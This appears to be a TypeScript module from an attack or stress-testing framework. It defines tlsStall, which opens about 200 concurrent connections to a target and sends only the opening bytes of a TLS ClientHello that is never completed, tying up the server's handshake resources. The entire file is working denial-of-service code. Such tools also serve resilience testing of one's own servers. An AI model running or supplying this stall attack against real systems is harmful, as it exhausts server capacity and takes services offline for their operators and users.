import { Assault } from './assault.ts';
import { type Attack, type AttackOptions, type AttackTarget, planOf } from './attack.ts';

/** The start of a TLS record that holds a ClientHello of 512 bytes, which never come. */
const beginning = Uint8Array.of(0x16, 0x03, 0x01, 0x02, 0x00, 0x01, 0x00, 0x01, 0xfc, 0x03, 0x03);

/** Begins a TLS handshake and goes no further, `clients` at the same time. An action is a connection. */
export function tlsStall(target: AttackTarget, options: AttackOptions = {}): Attack {
  const assault = new Assault(target, planOf({ rate: 0, clients: 200 }, options));
  return assault.run(() => {
    if (assault.size >= assault.plan.clients || assault.size - assault.stats.open >= 64) return false;
    assault.open().write(beginning);
    return true;
  });
}
